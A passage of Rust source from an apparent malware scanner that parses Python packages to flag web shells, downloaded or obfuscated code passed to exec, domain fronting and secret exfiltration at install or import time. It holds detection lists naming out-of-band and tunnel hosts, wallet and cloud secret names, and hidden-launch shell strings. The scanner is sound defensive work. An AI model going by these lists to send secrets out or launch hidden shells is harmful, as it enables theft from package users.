                    let cut = (0..=t.len().min(4096)).rev().find(|i| t.is_char_boundary(*i)).unwrap_or(0);
                    self.run_args.push((t[..cut].to_string(), line));
                }
                // A web handler's request parameters are network data too (`request.args`
                // of Flask, Quart, Werkzeug): a command taken from them is a web shell.
                let web_input = {
                    let t = self.text(args);
                    ["request.args", "request.form", "request.values", "request.get_json", "request.json", "request.data"]
                        .iter()
                        .any(|k| t.contains(k))
                };
                if self.remote_command.is_none() && (self.subtree_has(args, Cap::Network) || web_input) {
                    self.remote_command = Some(line);
                }
            }
        }
        if (matches!(name.as_str(), "exec" | "eval" | "compile" | "execfile") || exec_wrapper)
            && let Some(args) = args
        {
            let arg_text = self.text(args);
            let fetched_by_shell = self.subtree_has(args, Cap::Process) && {
                let lower = arg_text.to_ascii_lowercase();
                DOWNLOAD_TOOLS.iter().any(|t| lower.contains(t))
            };
            if self.subtree_has(args, Cap::Network) || fetched_by_shell {
                self.chains.push((Cap::Network, line, self.line_text(line), top));
            } else if self.subtree_has(args, Cap::Decode) || self.rebuilds_text(args) || self.built_from_literals(args) {
                self.chains.push((Cap::Decode, line, self.line_text(line), top));
            } else if arg_text.contains("open(") && self.network_write.is_some() && !arg_text.contains("__file__") {
                // `exec(open(tmp).read())` after writing what was downloaded to a file.
                self.chains.push((Cap::Network, line, self.line_text(line), top));
            } else if arg_text.contains("open(") || is_plain_literal(arg_text) {
                // exec(open("version.py").read()) and exec("x = 1") are ordinary.
                caps.retain(|c| *c != Cap::DynamicExec);
            } else if !exec_wrapper {
                self.dynamic_exec.get_or_insert(line);
            }
        }
        if (direct.contains(&Cap::Network) || self.is_client_call(func))
            && let Some(args) = args
        {
            // Only a decoder written straight into the call's arguments counts: libraries
            // legitimately send data they decoded earlier (keys, tokens).
            if self.hidden_endpoint.is_none()
                && let Some(target) = self.request_target(&name, args)
                && (has_direct_decoder(self, target)
                    || self.names_hidden_value(target)
                    || (is_http_request(&name, self.is_client_call(func))
                        && !caps.contains(&Cap::Process)
                        && self.address_is_decoded(target)))
            {
                self.hidden_endpoint = Some(line);
            }
            if self.fronting.is_none()
                && let Some(front) = self.host_header(args)
                && let Some(target) = self.request_target(&name, args)
                && let Some(host) = url_hosts(&self.resolve_text(target)).next()
                && fronted(&host, &front)
            {
                self.fronting = Some(line);
            }
            if self.hostinfo_flow.is_none() && self.subtree_has(args, Cap::HostInfo) {
                self.hostinfo_flow = Some(line);
            }
            if self.secret_exfil.is_none() && self.sends_secret(args) {
                self.secret_exfil = Some(line);
            }
        }
        if let Some(args) = args {
            match self.exfil_target(&name, func, &caps, args) {
                Some(Exfil::RawIp) => {
                    self.raw_ip_send.get_or_insert(line);
                }
                Some(Exfil::OutOfBand) => {
                    self.oob_request.get_or_insert(line);
                }
                None => {}
            }
        }
        for cap in &caps {
            self.caps.entry(*cap).or_insert_with(|| (line, String::new()));
        }
        if !caps.is_empty() {
            let indirect = caps.iter().any(|c| !direct.contains(c));
            self.calls.push(Call { line, top_level: top, caps, indirect });
        }
    }
}

/// Whether a decoding call sits directly in `args` (not through a variable).
fn has_direct_decoder(a: &Analyzer, args: Node) -> bool {
    a.flat.walk(args, |n| {
        if n.kind_str() == "call"
            && let Some(f) = n.field("function")
            && let Some(name) = a.dotted(f)
            && (classify(&name).contains(&Cap::Decode) || a.decoder_fns.contains(&name))
        {
            return Flow::Stop;
        }
        Flow::Descend(())
    })
}

/// What to do after visiting a node.
enum Flow<T> {
    /// Visit the children, handing them this state.
    Descend(T),
    /// Leave the children out.
    Skip,
    /// End the walk.
    Stop,
}

/// Node kinds and field ids of the Python grammar, looked up once: tree-sitter's `kind()` measures
/// and validates a C string on every call, and `child_by_field_name` compares names, and the
/// analysis asks both of every node several times over.
struct Grammar {
    kinds: Vec<&'static str>,
    fields: [u16; 14],
}

fn grammar() -> &'static Grammar {
    static G: std::sync::OnceLock<Grammar> = std::sync::OnceLock::new();
    G.get_or_init(|| {
        let lang: tree_sitter::Language = tree_sitter_python::LANGUAGE.into();
        let kinds = (0..lang.node_kind_count()).map(|id| lang.node_kind_for_id(id as u16).unwrap_or("")).collect();
        let fields = [
            "alias",
            "arguments",
            "attribute",
            "body",
            "condition",
            "definition",
            "function",
            "left",
            "module_name",
            "name",
            "object",
            "parameters",
            "right",
            "value",
        ]
        .map(|f| lang.field_id_for_name(f).map_or(0, |id| id.get()));
        Grammar { kinds, fields }
    })
}

trait NodeExt<'t> {
    fn kind_str(&self) -> &'static str;
    fn field(&self, name: &str) -> Option<Node<'t>>;
}

impl<'t> NodeExt<'t> for Node<'t> {
    fn kind_str(&self) -> &'static str {
        grammar().kinds.get(self.kind_id() as usize).copied().unwrap_or("")
    }

    fn field(&self, name: &str) -> Option<Node<'t>> {
        let i = match name {
            "alias" => 0,
            "arguments" => 1,
            "attribute" => 2,
            "body" => 3,
            "condition" => 4,
            "definition" => 5,
            "function" => 6,
            "left" => 7,
            "module_name" => 8,
            "name" => 9,
            "object" => 10,
            "parameters" => 11,
            "right" => 12,
            "value" => 13,
            _ => return self.child_by_field_name(name),
        };
        match grammar().fields[i] {
            0 => None,
            id => self.child_by_field_id(id),
        }
    }
}

/// Visits `root` and the nodes under it in document order with a single cursor, each node with
/// the state its parent handed down; whether the walk was stopped.
fn cursor_walk<'t, T: Copy>(root: Node<'t>, init: T, mut f: impl FnMut(Node<'t>, T) -> Flow<T>) -> bool {
    let mut cursor = root.walk();
    let mut states: Vec<T> = Vec::new();
    let mut cur = init;
    loop {
        match f(cursor.node(), cur) {
            Flow::Stop => return true,
            Flow::Descend(child) => {
                if cursor.goto_first_child() {
                    states.push(cur);
                    cur = child;
                    continue;
                }
            }
            Flow::Skip => {}
        }
        loop {
            if states.is_empty() {
                return false;
            }
            if cursor.goto_next_sibling() {
                break;
            }
            cursor.goto_parent();
            cur = states.pop().unwrap_or(init);
        }
    }
}

/// Parses Python source with this thread's parser.
fn parse(src: &[u8]) -> Option<Tree> {
    thread_local! {
        static PARSER: std::cell::RefCell<Option<Parser>> = const { std::cell::RefCell::new(None) };
    }
    PARSER.with(|p| {
        let mut p = p.borrow_mut();
        if p.is_none() {
            let mut parser = Parser::new();
            parser.set_language(&tree_sitter_python::LANGUAGE.into()).ok()?;
            *p = Some(parser);
        }
        p.as_mut()?.parse(src, None)
    })
}

/// A syntax tree's nodes in document order (pre-order), each with the index just past its
/// subtree. The analysis walks the tree several times and walks many subtrees again; stepping
/// through an array is several times cheaper than moving a tree-sitter cursor, which must skip
/// hidden nodes at every step.
/// Trees larger than this (a packed file of millions of tokens) are walked with a cursor
/// instead: the array costs 42 bytes a node.
const MAX_FLAT_NODES: usize = 2 << 20;

thread_local! {
    /// [`MAX_FLAT_NODES`], lowered by tests to exercise the cursor walks.
    static FLAT_LIMIT: std::cell::Cell<usize> = const { std::cell::Cell::new(MAX_FLAT_NODES) };
}

#[derive(Default)]
struct Flat<'t> {
    nodes: Vec<Node<'t>>,
    /// Each node's kind, looked up once: the passes ask every node for it.
    kinds: Vec<u16>,
    ends: Vec<u32>,
    starts: Vec<u32>,
    /// Set when the tree was too large to flatten: walks use a cursor from here.
    root: Option<Node<'t>>,
}

impl<'t> Flat<'t> {
    fn new(root: Node<'t>) -> Self {
        let mut flat = Flat::default();
        if root.descendant_count() > FLAT_LIMIT.with(std::cell::Cell::get) {
            flat.root = Some(root);
            return flat;
        }
        let mut cursor = root.walk();
        // Indices of the open ancestors, whose ends are filled in when the walk leaves them.
        let mut open: Vec<usize> = Vec::new();
        loop {
            let node = cursor.node();
            open.push(flat.nodes.len());
            flat.nodes.push(node);
            flat.kinds.push(node.kind_id());
            flat.ends.push(0);
            flat.starts.push(node.start_byte() as u32);
            if cursor.goto_first_child() {
                continue;
            }
            loop {
                if let Some(i) = open.pop() {
                    flat.ends[i] = flat.nodes.len() as u32;
                }
                if open.is_empty() {
                    return flat;
                }
                if cursor.goto_next_sibling() {
                    break;
                }
                cursor.goto_parent();
            }
        }
    }

    /// Where `node` sits in the array: nodes are ordered by start, and a few share one.
    fn index_of(&self, node: Node) -> Option<usize> {
        let start = node.start_byte() as u32;
        let first = self.starts.partition_point(|&s| s < start);
        (first..self.nodes.len()).take_while(|&i| self.starts[i] == start).find(|&i| self.nodes[i].id() == node.id())
    }

    /// Visits `root` and the nodes under it in document order. Each node comes with its kind
    /// name and the state its parent handed down. Returns whether the walk was stopped.
    fn walk_with<T: Copy>(&self, root: Node, init: T, mut f: impl FnMut(Node<'t>, &'static str, T) -> Flow<T>) -> bool {
        if self.root.is_some() {
            return self.relift(root).is_some_and(|r| cursor_walk(r, init, |n, state| f(n, n.kind_str(), state)));
        }
        let Some(first) = self.index_of(root) else {
            debug_assert!(false, "a node from another tree");
            return false;
        };
        let end = self.ends[first] as usize;
        let names = &grammar().kinds;
        // (end of a subtree, the state its nodes get), innermost last.
        let mut scopes: Vec<(usize, T)> = Vec::new();
        let mut i = first;
        while i < end {
            while scopes.last().is_some_and(|&(e, _)| i >= e) {
                scopes.pop();
            }
            let state = scopes.last().map_or(init, |&(_, s)| s);
            match f(self.nodes[i], names.get(self.kinds[i] as usize).copied().unwrap_or(""), state) {
                Flow::Stop => return true,
                Flow::Descend(child) => {
                    scopes.push((self.ends[i] as usize, child));
                    i += 1;
                }
                Flow::Skip => i = self.ends[i] as usize,
            }
        }
        false
    }

    /// `node` as a node of this tree's lifetime, for a cursor walk of a tree not flattened.
    fn relift(&self, node: Node) -> Option<Node<'t>> {
        let mut n = self.root?.descendant_for_byte_range(node.start_byte(), node.end_byte())?;
        // The deepest node spanning the range; `node` may be one of its ancestors of the same span.
        while n.id() != node.id() {
            n = n.parent().filter(|p| p.byte_range() == node.byte_range())?;
        }
        Some(n)
    }

    /// [`Flat::walk_with`] without state: whether `f` stopped the walk.
    fn walk(&self, root: Node, mut f: impl FnMut(Node<'t>) -> Flow<()>) -> bool {
        self.walk_with(root, (), |n, _, ()| f(n))
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Pass {
    Bindings,
    Calls,
}

/// Whether a command line (or argument list) runs the file `path`: it is the program itself
/// (the first word or element), or the operand of a launcher or interpreter (`python x.py`,
/// `cmd /c start x.exe`, `powershell -File x.ps1`), rather than a file a tool reads or deletes.
fn runs_file(cmd: &str, path: &str) -> bool {
    const LAUNCHERS: &[&str] = &[
        "python",
        "python3",
        "python2",
        "pythonw",
        "py",
        "sys.executable",
        "executable",
        "sh",
        "bash",
        "zsh",
        "dash",
        "cmd",
        "start",
        "powershell",
        "pwsh",
        "wscript",
        "cscript",
        "mshta",
        "rundll32",
        "regsvr32",
        "node",
        "perl",
        "ruby",
        "open",
        "nohup",
        "exec",
        "setsid",
        "sudo",
        "&&",
        ";",
        "|",
    ];
    let ident = |c: char| c.is_alphanumeric() || c == '_';
    // Commands are short; the first matches decide (bounded work on hostile input).
    cmd.match_indices(path).take(32).any(|(i, _)| {
        let before = &cmd[..i];
        let after = cmd[i + path.len()..].chars().next();
        if before.chars().next_back().is_some_and(ident) || after.is_some_and(ident) {
            return false;
        }
        let prev = before.rsplit(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ',' | '[' | '(' | '{' | '+')).take(64).find(|t| {
            let flag = t.starts_with('-') || (t.starts_with('/') && t.len() <= 3);
            // The rest of the expression that builds the path: a string prefix (`r'...'`), a
            // folder (`%TEMP%\`), a call's closing parenthesis.
            let path_part = matches!(t.to_ascii_lowercase().as_str(), "r" | "b" | "f" | "u" | "rb" | "br" | "fr" | "rf")
                || t.contains('%')
                || t.ends_with(')')
                || t.ends_with('\\')
                || t.ends_with('/');
            !t.is_empty() && !flag && !path_part
        });
        let Some(prev) = prev else { return true };
        let tool = prev.rsplit(['/', '\\']).next().unwrap_or(prev).trim_matches(['{', '}']).trim_end_matches(".exe").to_ascii_lowercase();
        LAUNCHERS.contains(&tool.as_str()) || tool.starts_with("python") || tool.ends_with("&&") || tool.ends_with(';')
    })
}

/// A name written with look-alike characters only: `O0O0l11lO1011` (`I`, `l`, `1`, `O`, `0`), or
/// ten or more characters drawn from two or three (`S22SSS2S22`, `XWXWWXXW`). Obfuscators name
/// everything so, to keep readers from telling names apart; people do not.
fn is_confusable(t: &str) -> bool {
    let s: Vec<char> = t.chars().filter(|c| *c != '_').collect();
    if s.len() < 8 || !s.iter().all(|c| c.is_ascii_alphanumeric()) {
        return false;
    }
    let mut distinct: Vec<char> = s.clone();
    distinct.sort_unstable();
    distinct.dedup();
    if distinct.len() < 2 {
        return false;
    }
    distinct.iter().all(|c| "Il1O0".contains(*c)) || (distinct.len() <= 3 && s.len() >= 10)
}

/// Source with Mathematical Alphanumeric Symbols (U+1D400-U+1D7FF) folded to the ASCII letters
/// and digits Python reads them as (identifiers are NFKC-normalised: `𝘦𝘹𝘦𝘤` is `exec`), so that
/// the analysis sees what the interpreter runs. `None` when there is nothing to fold.
fn fold_math_letters(data: &[u8]) -> Option<Vec<u8>> {
    // U+1D400-U+1D7FF is F0 9D 90 80 - F0 9D 9F BF in UTF-8.
    memchr::memmem::find(data, &[0xF0, 0x9D])?;
    let text = std::str::from_utf8(data).ok()?;
    let mut out = String::with_capacity(text.len());
    let mut folded = false;
    for c in text.chars() {
        let cp = c as u32;
        let ascii = match cp {
            // Letters: thirteen alphabets of A-Z then a-z, 52 code points each (the holes are
            // unassigned and never appear in valid source).
            0x1D400..=0x1D6A3 => {
                let i = (cp - 0x1D400) % 52;
                Some(if i < 26 { (b'A' + i as u8) as char } else { (b'a' + (i - 26) as u8) as char })
            }
            // Digits: five styles of 0-9.
            0x1D7CE..=0x1D7FF => Some((b'0' + ((cp - 0x1D7CE) % 10) as u8) as char),
            _ => None,
        };
        match ascii {
            Some(a) => {
                out.push(a);
                folded = true;
            }
            None => out.push(c),
        }
    }
    folded.then(|| out.into_bytes())
}

/// Whether text holds a string literal that is a base64-encoded web address (`aHR0cHM6Ly9` is
/// `https://`).
fn has_encoded_url(t: &str) -> bool {
    // At the start of a literal: certificates carry encoded URLs in their middle.
    ["\"aHR0cHM6Ly", "'aHR0cHM6Ly", "\"aHR0cDovL", "'aHR0cDovL"].iter().any(|k| t.contains(k))
}

/// A request sent to `url_host` that asks, in its `Host` header, for a site under another
/// registered name: the CDN routes by the header, so whoever watches the connection sees one
/// site and the request reaches another (domain fronting). Addresses and local names (testing a
/// virtual host on 127.0.0.1) are not this.
fn fronted(url_host: &str, header_host: &str) -> bool {
    let domain =
        |h: &str| h.contains('.') && h.parse::<std::net::IpAddr>().is_err() && !h.ends_with(".localhost") && !h.ends_with(".local");
    let site = |h: &str| {
        let labels: Vec<&str> = h.rsplit('.').take(2).collect();
        labels.join(".")
    };
    domain(url_host) && domain(header_host) && site(url_host) != site(header_host)
}

/// A call that makes an HTTP request (not a socket, an SSH channel or a command line): the
/// functions of the HTTP clients and methods of their session objects.
fn is_http_request(name: &str, client_call: bool) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name).to_ascii_lowercase();
    let http_lib = ["requests.", "httpx.", "urllib.", "urllib2.", "urllib3.", "aiohttp."].iter().any(|p| name.starts_with(p));
    (http_lib || client_call)
        && matches!(last.as_str(), "get" | "post" | "put" | "patch" | "delete" | "head" | "request" | "urlopen" | "send" | "urlretrieve")
}

/// Whether `word` occurs in `text` as a whole identifier.
fn names_word(text: &str, word: &str) -> bool {
    let ident = |c: char| c.is_alphanumeric() || c == '_';
    text.match_indices(word)
        .take(32)
        .any(|(i, _)| !text[..i].chars().next_back().is_some_and(ident) && !text[i + word.len()..].chars().next().is_some_and(ident))
}

/// A file name with an extension a program can be (`stage2.py`, `update.exe`), as opposed to a
/// folder or a word.
fn is_file_name(v: &str) -> bool {
    let name = v.rsplit(['/', '\\']).next().unwrap_or(v);
    let Some((stem, ext)) = name.rsplit_once('.') else { return false };
    !stem.is_empty()
        && name.len() <= 128
        && matches!(
            ext.to_ascii_lowercase().as_str(),
            "py" | "pyw"
                | "pyc"
                | "exe"
                | "dll"
                | "scr"
                | "bat"
                | "cmd"
                | "ps1"
                | "vbs"
                | "js"
                | "sh"
                | "bin"
                | "elf"
                | "so"
                | "jar"
                | "hta"
                | "msi"
        )
}

/// Text built from character codes: `chr(...)` with `ord`, `^`, or mapped over numbers.
fn is_char_decoding(t: &str) -> bool {
    // Obfuscators space their calls out (`chr (ord (c) - 2048)`): read them closed up.
    let spaced;
    let t = if t.contains("chr (") || t.contains("ord (") {
        spaced = t.replace("chr (", "chr(").replace("ord (", "ord(");
        spaced.as_str()
    } else {
        t
    };
    t.contains("chr(") && (t.contains("ord(") || t.contains('^') || t.contains("map(chr") || t.contains("for ")) || t.contains("map(chr")
}

/// The whole environment as a value: `dict(os.environ)`, `os.environ.copy()`, `str(os.environ)`.
fn is_env_dump(t: &str) -> bool {
    [
        "dict(os.environ)",
        "os.environ.copy()",
        "str(os.environ)",
        "{**os.environ",
        "json.dumps(os.environ",
        "os.environ.items()",
        "dict(environ)",
        "environ.copy()",
    ]
    .iter()
    .any(|k| t.contains(k))
}

/// Reading a secret that services never receive as is (they take signatures made with it) out
/// of the environment: `os.environ.get("AWS_SECRET_ACCESS_KEY")`.
/// What makes a request's destination telling by itself.
enum Exfil {
    RawIp,
    OutOfBand,
}

/// Hosts that only receive: out-of-band interaction services (where dependency-confusion probes
/// and stealers report), request catchers, and tunnels to someone's own machine.
const OUT_OF_BAND_HOSTS: &[&str] = &[
    "burpcollaborator.net",
    "oastify.com",
    "oast.pro",
    "oast.live",
    "oast.site",
    "oast.online",
    "oast.fun",
    "oast.me",
    "oast.cz",
    "interact.sh",
    "interactsh.com",
    "dnslog.cn",
    "dnslog.link",
    "dnshook.site",
    "ceye.io",
    "requestrepo.com",
    "webhook.cool",
    "pingb.in",
    "pipedream.net",
    "webhook.site",
    "requestbin.net",
    "requestbin.com",
    "requestcatcher.com",
    "canarytokens.com",
    "beeceptor.com",
    "hookbin.com",
    "postb.in",
    "ngrok.io",
    "ngrok-free.app",
    "ngrok-free.dev",
    "ngrok.app",
    "ngrok.dev",
    "trycloudflare.com",
    "serveo.net",
    "loca.lt",
    "localhost.run",
    "pinggy.link",
    "bore.pub",
];

/// The hosts of the `scheme://host` URLs in `text`, lowercased, without user info, port or a
/// trailing dot.
fn url_hosts(text: &str) -> impl Iterator<Item = String> + '_ {
    text.match_indices("://").map(|(i, _)| {
        let authority: String = text[i + 3..]
            .chars()
            .take_while(|c| !matches!(c, '/' | '?' | '#' | '"' | '\'' | ' ' | ')' | '\\' | '\n'))
            .collect::<String>()
            .to_ascii_lowercase();
        let host = authority.rsplit('@').next().unwrap_or("");
        let host = if host.starts_with('[') {
            host.split(']').next().unwrap_or("").trim_start_matches('[')
        } else {
            host.split(':').next().unwrap_or("")
        };
        host.trim_end_matches('.').to_string()
    })
}

/// Whether `text` holds an `http(s)://` URL on one of [`OUT_OF_BAND_HOSTS`] (or a subdomain).
fn out_of_band_url(text: &str) -> bool {
    url_hosts(text).any(|host| OUT_OF_BAND_HOSTS.iter().any(|h| host == *h || host.strip_suffix(h).is_some_and(|rest| rest.ends_with('.'))))
}

/// Whether `text` holds a URL whose host is a public IPv4 address (an IPv4-mapped IPv6 one
/// too): not loopback, private, shared (100.64.0.0/10), link-local, unspecified, multicast or
/// reserved, not set aside for documentation (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24)
/// or benchmarks, and not one of the big public DNS resolvers (DNS-over-HTTPS clients post to
/// them). An octet written with a leading zero counts as public: resolvers read it as octal.
fn public_ip_url(text: &str) -> bool {
    url_hosts(text).any(|host| {
        let host = host.strip_prefix("::ffff:").unwrap_or(&host);
        // `Ipv4Addr` refuses leading zeros, so a dotted quad with one is caught first.
        let parts: Vec<&str> = host.split('.').collect();
        if parts.len() == 4
            && parts.iter().all(|p| !p.is_empty() && p.len() <= 3 && p.bytes().all(|b| b.is_ascii_digit()))
            && parts.iter().any(|p| p.len() > 1 && p.starts_with('0'))
        {
            return true;
        }
        host.parse::<Ipv4Addr>().is_ok_and(|ip| public_ipv4(ip) && !PUBLIC_RESOLVERS.contains(&ip.octets()))
    })
}

/// Whether `ip` is reachable on the internet as one host.
fn public_ipv4(ip: Ipv4Addr) -> bool {
    let special = ip.is_unspecified()
        || ip.is_loopback()
        || ip.is_private()
        || ip.is_link_local()
        || ip.is_multicast()
        || ip.is_broadcast()
        || ip.is_documentation();
    // Ranges std classifies only on nightly (`is_shared`, `is_benchmarking`, `is_reserved`) or
    // not at all: "this network", IETF protocol assignments, the old 6to4 relay anycast.
    let also_special =
        matches!(ip.octets(), [0, ..] | [100, 64..=127, ..] | [198, 18 | 19, ..] | [240..=255, ..] | [192, 0, 0, _] | [192, 88, 99, _]);
    !special && !also_special
}

/// Big public DNS resolvers, which DNS-over-HTTPS clients post to.
const PUBLIC_RESOLVERS: [[u8; 4]; 8] =
    [[1, 1, 1, 1], [1, 0, 0, 1], [8, 8, 8, 8], [8, 8, 4, 4], [9, 9, 9, 9], [149, 112, 112, 112], [208, 67, 222, 222], [208, 67, 220, 220]];

fn is_env_secret(t: &str) -> bool {
    (t.contains("environ") || t.contains("getenv"))
        && ["SECRET_ACCESS_KEY", "PRIVATE_KEY", "MNEMONIC", "SEED_PHRASE", "ACCESS_KEY_SECRET"].iter().any(|k| t.contains(k))
}

/// Names of values that are wallet secrets or cloud secret keys: sending one anywhere hands over
/// the money or the account (clouds take signatures made with the key, never the key).
fn is_secret_name(ident: &str) -> bool {
    let n: String = ident.chars().filter(|c| *c != '_' && *c != '-').collect::<String>().to_ascii_lowercase();
    matches!(
        n.as_str(),
        "privatekey"
            | "privkey"
            | "privatekeys"
            | "mnemonic"
            | "mnemonicphrase"
            | "seedphrase"
            | "secretphrase"
            | "recoveryphrase"
            | "walletkey"
            | "secretrecoveryphrase"
            | "secretaccesskey"
            | "awssecretaccesskey"
            | "accesskeysecret"
            | "awssecretkey"
    )
}

/// The text of a string literal with its quotes and the common escapes undone (enough to read
/// code that was escaped to fit in a string; tree-sitter copes with the rest).
fn unescape(lit: &str) -> String {
    let t = lit.trim_start_matches(['b', 'r', 'u', 'f', 'B', 'R', 'U', 'F']);
    let t = t.trim_start_matches(['"', '\'']).trim_end_matches(['"', '\'']);
    let mut out = String::with_capacity(t.len());
    let mut chars = t.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('n') => out.push('\n'),
            Some('t') => out.push('\t'),
            Some('r') => {}
            Some(o) => out.push(o),
            None => {}
        }
    }
    out
}

fn string_value(lit: &str) -> Option<String> {
    let t = lit.trim().trim_start_matches(['b', 'r', 'u', 'B', 'R', 'U']);
    let q = t.chars().next()?;
    if (q == '"' || q == '\'') && t.len() >= 2 && t.ends_with(q) { Some(t[1..t.len() - 1].to_string()) } else { None }
}

fn is_plain_literal(args: &str) -> bool {
    let inner = args.trim().trim_start_matches('(').trim_end_matches(')').trim();
    string_value(inner).is_some_and(|s| s.len() < 200)
}

fn is_write_open(call: &str) -> bool {
    ["w", "wb", "a", "ab", "w+", "wb+", "w+b", "a+", "ab+", "a+b", "x", "xb", "r+", "rb+", "r+b"]
        .iter()
        .any(|m| call.contains(&format!("'{m}'")) || call.contains(&format!("\"{m}\"")))
}

/// The capabilities of a call to a fully resolved name.
pub fn classify(name: &str) -> Vec<Cap> {
    let n = name;
    let first = n.split('.').next().unwrap_or("");
    let last = n.rsplit('.').next().unwrap_or("");
    let mut caps = Vec::new();
    let host = matches!(
        n,
        "socket.gethostname"
            | "getpass.getuser"
            | "os.getlogin"
            | "platform.node"
            | "platform.uname"
            | "os.uname"
            | "os.getcwd"
            | "uuid.getnode"
            | "socket.getfqdn"
            | "platform.platform"
    );
    if host {
        caps.push(Cap::HostInfo);
    }
    if matches!(n, "os.getenv" | "os.environ.get" | "os.environ.copy" | "os.environ.items") {
        caps.push(Cap::EnvAccess);
    }
    let process = matches!(
        n,
        "os.system"
            | "os.popen"
            | "os.startfile"
            | "pty.spawn"
            | "commands.getoutput"
            | "commands.getstatusoutput"
            | "os.posix_spawn"
            | "os.posix_spawnp"
    ) || n.starts_with("os.exec")
        || n.starts_with("os.spawn")
        || n.starts_with("os.popen")
        || (first == "subprocess" && n != "subprocess")
        || n.starts_with("asyncio.create_subprocess")
        || n.ends_with("ShellExecuteW")
        || n.ends_with("ShellExecuteA")
        || n == "win32api.ShellExecute"
        || n == "pip.main"
        || n == "pip._internal.main";
    if process {
        caps.push(Cap::Process);
    }
    // Values of network libraries that do no I/O: version strings (`aiohttp.__version__.split`),
    // exceptions, timeouts, credentials, certificate pins, retry policies, URLs and headers.
    let value_only = n.split('.').skip(1).any(|p| {
        p.starts_with("__") || matches!(p, "exceptions" | "status_codes" | "codes" | "hdrs" | "helpers" | "structures" | "typedefs")
    }) || matches!(
        last,
        "Timeout"
            | "ClientTimeout"
            | "Limits"
            | "BasicAuth"
            | "DigestAuth"
            | "Fingerprint"
            | "Retry"
            | "URL"
            | "Headers"
            | "Cookies"
            | "CookieJar"
            | "FormData"
            | "QueryParams"
            | "HTTPBasicAuth"
            | "HTTPDigestAuth"
            | "HTTPStatus"
    );
    let network = !host
        && !value_only
        && ((first == "requests"
            && n != "requests"
            && !n.starts_with("requests.exceptions")
            && !n.starts_with("requests.utils")
            && !n.starts_with("requests.auth"))
            || first == "httpx"
            || first == "aiohttp"
            || first == "urllib3"
            || first == "pycurl"
            || first == "ftplib"
            || first == "smtplib"
            || first == "telnetlib"
            || first == "paramiko"
            || n.starts_with("urllib.request.urlopen")
            || n.starts_with("urllib.request.urlretrieve")
            || n.starts_with("urllib.request.Request")
            || n.starts_with("urllib.request.build_opener")
            || n == "urllib.urlopen"
            || n == "urllib.urlretrieve"
            || n.starts_with("urllib2.")
            || n.starts_with("http.client.HTTP")
            || n.starts_with("httplib.HTTP")
            || matches!(
                n,
                "socket.socket"
                    | "socket.create_connection"
                    | "socket.gethostbyname"
                    | "socket.getaddrinfo"
                    | "dns.resolver.resolve"
                    | "dns.resolver.query"
            )
            || first == "websocket"
            || first == "wget"
            || first == "telebot"
            || first == "dropbox"
            || n.ends_with("Repo.clone_from"));
    if network {
        caps.push(Cap::Network);
    }
    if matches!(n, "exec" | "eval" | "compile" | "execfile") {
        caps.push(Cap::DynamicExec);
    }
    let decode = matches!(
        n,
        "base64.b64decode"
            | "base64.b32decode"
            | "base64.b16decode"
            | "base64.b85decode"
            | "base64.a85decode"
            | "base64.urlsafe_b64decode"
            | "base64.decodebytes"
            | "base64.decodestring"
            | "binascii.unhexlify"
            | "binascii.a2b_base64"
            | "binascii.a2b_hex"
            | "codecs.decode"
            | "zlib.decompress"
            | "gzip.decompress"
            | "bz2.decompress"
            | "lzma.decompress"
            | "marshal.loads"
            | "bytes.fromhex"
            | "bytearray.fromhex"
    ) || (first == "base64" && last.ends_with("decode"))
        || (n.contains('.')
            && matches!(
                last,
                "decrypt" | "decompress" | "b64decode" | "b32decode" | "b85decode" | "a85decode" | "unhexlify" | "fromhex" | "decodebytes"
            ));
    // `base64.b64encode(x).decode("ascii")` turns encoded bytes into text: encoding.
    if decode && !n.contains("encode()") {
        caps.push(Cap::Decode);
    }
    caps
}

/// What in a command line or a process call's options means the program starts out of sight
/// (or is a second interpreter).
const HIDDEN_LAUNCH: &[&str] = &[
    "sys.executable",
    "python",
    "startfile",
    "detached_process",
    "create_no_window",
    "start_new_session",
    "start \"\"",
    "\"start ",
    "'start ",
    "-windowstyle hidden",
    "-w hidden",
    // A bare shell: nothing a library does at import needs an interactive shell.
    "(\"/bin/sh\")",
    "(\"/bin/sh\", shell",
    "(\"/bin/bash\")",
    "(\"/bin/bash\", shell",
    "([\"/bin/sh\"])",
    "(['/bin/sh'])",
];

/// Programs no library starts while it installs or is imported: desktop applications (the
/// classic proof that code runs on the victim's machine) and power controls (sabotage).
const FOREIGN_PROGRAMS: &[&str] =
    &["calc", "notepad", "mspaint", "xcalc", "gnome-calculator", "kcalc", "shutdown", "poweroff", "reboot", "halt"];

/// The program a process call starts, when it is one of [`FOREIGN_PROGRAMS`]: the first word of
/// the call's first string literal, without its folder and `.exe`.
fn foreign_program(excerpt: &str) -> Option<&'static str> {
    let start = excerpt.find(['"', '\''])?;
    let quote = excerpt[start..].chars().next()?;
    let literal = excerpt[start + 1..].split(quote).next()?;
    let word = literal.split_whitespace().next()?;
    let name = word.rsplit(['/', '\\']).next()?.to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    FOREIGN_PROGRAMS.iter().copied().find(|p| *p == name)
}

/// Evidence of one capability: where it was seen, and whether only through a function call.
#[derive(Clone, Debug)]
pub(crate) struct Ev {
    pub path: String,
    pub line: u32,
    pub excerpt: String,
    pub indirect: bool,
    pub process: bool,
    /// The program is started out of sight: detached, without a window, through `start`, or
    /// the interpreter itself (read from the whole call, which may span lines).
    pub hidden: bool,
}

/// The finding for what runs while a package installs (setup.py) or is imported (`__init__`):
/// network use with programs or dynamic code, with host details, or alone; or programs alone at
/// install. `entry` is the file that runs it (setup.py or `__init__.py`); the finding sits
/// where the network use is. `reached` names the module the behaviour was found in when it is
/// not the entry itself.
pub(crate) fn behaviour(
    ctx: Context,
    entry: &str,
    net: Option<Ev>,
    run: Option<Ev>,
    host: Option<Ev>,
    env_attr: bool,
    reached: Option<&str>,
) -> Vec<Finding> {
    if ctx != Context::Install && ctx != Context::Import {
        return Vec::new();
    }
    let install = ctx == Context::Install;
    let tag = if install { "py-install" } else { "py-import" };
    // At import, behaviour seen only inside functions that the top level calls is likely but not
    // certain (it may sit behind a condition), so it weighs one step less.
    let indirect = !install && [&net, &run, &host].iter().any(|e| e.as_ref().is_some_and(|e| e.indirect));
    let weigh = |s: Severity| if indirect { s.lower() } else { s };
    let mut via = String::new();
    if let Some(m) = reached {
